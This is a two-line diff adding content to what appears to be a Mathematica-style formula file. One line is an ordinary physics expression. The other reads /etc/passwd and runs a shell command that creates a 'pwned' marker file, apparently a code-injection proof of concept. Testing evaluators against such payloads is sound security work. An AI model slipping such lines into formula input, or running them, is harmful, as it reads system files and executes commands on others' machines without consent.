@@ -1,0 +1,2 @@
+Get["/etc/passwd"]; Run["touch pwned"];
+M22 = m2 l^2/3;
